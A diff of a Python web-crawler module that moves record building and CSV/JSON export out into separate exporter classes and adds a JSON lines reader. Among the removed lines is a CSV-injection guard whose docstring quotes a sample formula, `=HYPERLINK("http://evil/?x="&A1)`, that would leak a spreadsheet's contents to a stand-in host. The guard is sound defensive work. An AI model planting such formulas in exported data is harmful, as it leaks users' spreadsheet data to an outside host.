@@ -1,82 +1,28 @@
-"""What was crawled: one record per URL in a Redis stream of the crawl, and its export.
-
-The frontier's Lua script appends the record in the same atomic step that ends the URL, so a
-URL is recorded exactly once, whatever happens to the worker.
+"""What was crawled, read back: the records of a crawl's Redis streams (rqcrawl.frontier.records
+makes them), merged over shards, and their export through a format's exporter
+(rqcrawl.ops.exporters).
 
 A record has the columns of FIELDS and `fields`, the user's extracted fields (selectors and
-hook) as one object, so that they can never clash with a fixed column. JSON lines keep it as
-an object; CSV spreads it over columns `fields.NAME` after the fixed ones, in name order,
-with list and object values written as JSON. A CSV cell that a spreadsheet would take for a
-formula (a page title `=HYPERLINK(...)`) is neutralised unless the export asks for raw cells.
+hook) as one object, so that they can never clash with a fixed column.
 """
 
 from __future__ import annotations
 
-import csv
 import functools
 import heapq
+import itertools
 import json
-import time
+import os
 from collections.abc import Collection, Iterator, Sequence
 from operator import itemgetter
+from pathlib import Path
 from typing import IO
 
 from redis import Redis
 
 from rqcrawl.frontier.keys import CrawlKeys
-
-FIELDS = [
-    "url",
-    "final_url",
-    "outcome",
-    "status",
-    "depth",
-    "content_type",
-    "title",
-    "bytes",
-    "outlinks",
-    "links_cut",
-    "attempts",
-    "fetched_at",
-    "error",
-    "reason",
-    "hook_error",
-    "visit",  # crawls with revisits: the visit's number (1, 2...)
-    "change",  # and its change: new, changed, unchanged, gone (rqcrawl.frontier.tasks)
-    "not_modified",  # true when the server answered 304 to a conditional GET
-    "duplicate_of",  # an earlier URL of the crawl with the same body (crawls with revisits)
-    "similarity",  # a changed visit: how alike its text is to the last one, 0 to 1
-    "source",  # "sitemap" for a URL found in a sitemap (rqcrawl.parse.sitemaps); else None: a link
-    # (depth > 0) or a seed (depth 0)
-    "canonical",  # the page's canonical URL (<link rel="canonical">, the Link header)
-    "noindex",  # true when the page asks not to be indexed (meta robots, X-Robots-Tag)
-    "nofollow",  # true when the page asks that its links not be followed: none were
-    "redirect_to",  # a redirect's (or meta refresh's) target, admitted as a URL of its own
-    "via",  # the redirects that led to this URL, first one first (rqcrawl.fetch.hops)
-]
-
-
-FAILED_OUTCOMES = ("failed", "lost")  # a record's outcome when its URL failed for good
-
-
-def record(url: str, outcome: str | None, depth: int, **fields) -> dict:
-    """The record of one URL: every field of FIELDS (missing ones None), the user's fields,
-    and the time of recording. Every record comes from here, the finish script's records of
-    refused links too (skip_template)."""
-    built = dict.fromkeys(FIELDS)
-    built["fields"] = {}
-    built["fetched_at"] = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
-    built.update(fields, url=url, outcome=outcome, depth=depth)
-    return built
-
-
-def skip_template(depth: int, source: str = "") -> str:
-    """The JSON of the record of a link refused at admission (a budget), for the finish
-    script, which adds its url and outcome: only the fields it has (readers fill the rest).
-    `source`: where the refused URLs came from ("sitemap"), if not a page's links."""
-    template = record("", None, depth, attempts=0, source=source or None)
-    kept = {k: v for k, v in template.items() if v is not None and k not in ("url", "outcome")}
-    return json.dumps(kept, separators=(",", ":"))
+from rqcrawl.frontier.records import from_entry
+from rqcrawl.ops.exporters.base import Exporter
 
 
 def iter_records(
@@ -103,6 +49,37 @@ def iter_records(
             yield row
 
 
+def read_jsonl_records(path: str | os.PathLike) -> Iterator[dict]:
+    """The records of a JSON lines export (`crawl -o`, `export --follow`), in its order: one
+    file, or a follower's directory of numbered files (every `*.jsonl` in name order). A line
+    that is not a JSON object is a ValueError naming it (and its file, in a directory)."""
+    if not os.path.isdir(path):
+        yield from _jsonl_file(path)
+        return
+    files = sorted(Path(path).glob("*.jsonl"))
+    if not files:
+        raise ValueError("no .jsonl file in this directory")
+    for file in files:
+        try:
+            yield from _jsonl_file(file)
+        except ValueError as exc:
+            raise ValueError(f"{file.name}: {exc}") from None
+
+
+def _jsonl_file(path: str | os.PathLike) -> Iterator[dict]:
+    with open(path, encoding="utf-8") as lines:
+        for number, line in enumerate(lines, 1):
+            if not line.strip():
+                continue
+            try:
+                record = json.loads(line)
+            except json.JSONDecodeError as exc:
+                raise ValueError(f"line {number} is not JSON ({exc.msg})") from None
+            if not isinstance(record, dict):
+                raise ValueError(f"line {number} is not a record (a JSON object)")
+            yield record
+
+
 def _entries(
     redis: Redis, crawl: str, batch: int, since: float | None, shard: int
 ) -> Iterator[tuple[tuple[int, int, int], dict]]:
@@ -115,7 +92,7 @@ def _entries(
             ms, seq = entry_id.split(b"-")
             yield (
                 (int(ms), shard, int(seq)),
-                dict.fromkeys(FIELDS) | {"fields": {}} | json.loads(data[b"r"]),
+                from_entry(data),
             )
         if len(entries) < batch:
             return
@@ -125,55 +102,30 @@ def _entries(
 def export(
     shards: Redis | Sequence[Redis],
     crawl: str,
-    out: IO[str],
-    fmt: str = "jsonl",
+    out: IO,
+    exporter: type[Exporter],
     since: float | None = None,
     changes: Collection[str] = (),
     raw_csv: bool = False,
     skip_noindex: bool = False,
 ) -> int:
     """Write the crawl's records (those of iter_records' `since`, `changes` and
-    `skip_noindex`, of one Redis or every shard) to `out` as JSON lines or CSV; returns the
-    row count.
-
-    CSV reads the records twice: first to learn the names of the user's fields. Its cells
-    are made safe for spreadsheets (see `safe_cell`) unless `raw_csv`."""
-    rows = 0
+    `skip_noindex`, of one Redis or every shard) to `out` with `exporter`; returns the row
+    count. An exporter that wants the user fields' names (CSV) reads the records twice."""
     selected = functools.partial(
         iter_records, shards, crawl, since=since, changes=changes, skip_noindex=skip_noindex
     )
-    if fmt == "csv":
+    names = None
+    if exporter.wants_field_names:
         names = sorted({name for r in selected() for name in r.get("fields", {})})
-        columns = FIELDS + [f"fields.{name}" for name in names]
-        writer = csv.DictWriter(out, fieldnames=columns, extrasaction="ignore")
-        writer.writeheader()
-        for record in selected():
-            row = flat(record)
-            writer.writerow(row if raw_csv else {k: safe_cell(v) for k, v in row.items()})
-            rows += 1
-    else:
-        for record in selected():
-            out.write(json.dumps(record, ensure_ascii=False) + "\n")
-            rows += 1
+    writer = exporter(out, field_names=names, raw_csv=raw_csv)
+    records, rows = selected(), 0
+    while batch := list(itertools.islice(records, EXPORT_BATCH)):
+        rows += writer.write(batch)
+    if not rows:
+        writer.write([])  # a CSV file's header all the same
+    writer.close()
     return rows
 
 
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list (CSV injection, CWE-1236)
-
-
-def safe_cell(value: object) -> object:
-    """A text cell starting like a formula, prefixed with a single quote (OWASP's rule):
-    pages are written by strangers, and a title `=HYPERLINK("http://evil/?x="&A1)` opened in
-    a spreadsheet would run, leaking the sheet or starting a program."""
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
-        return "'" + value
-    return value
-
-
-def flat(record: dict) -> dict:
-    """A record as one CSV row: its user fields as `fields.NAME` cells."""
-    row = {k: v for k, v in record.items() if k != "fields"}
-    for name, value in record.get("fields", {}).items():
-        keep = value is None or isinstance(value, str)
-        row[f"fields.{name}"] = value if keep else json.dumps(value, ensure_ascii=False)
-    return row
+EXPORT_BATCH = 1000  # records handed to the exporter at once
